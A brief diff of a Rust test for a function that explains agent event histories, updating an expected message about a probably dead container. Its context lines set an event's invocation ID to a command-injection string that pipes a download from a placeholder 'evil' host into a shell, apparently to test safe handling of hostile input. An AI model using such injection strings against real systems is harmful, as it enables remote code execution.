@@ -187,7 +187,8 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
     signed[0].signs = Some(Vec::new());
     let said = explain(&signed, later(&events));
     assert!(said.contains("no sign of life since its start 1 min"), "{said}");
-    assert!(said.contains("; the agent has said nothing yet"), "{said}");
+    let dead = "(due every 20 s: its container is probably dead); no progress yet";
+    assert!(said.contains(dead), "{said}");
     let mut hostile = history("running");
     for event in &mut hostile {
         event.invocation_id = "arn:x; curl evil | sh #".to_owned();
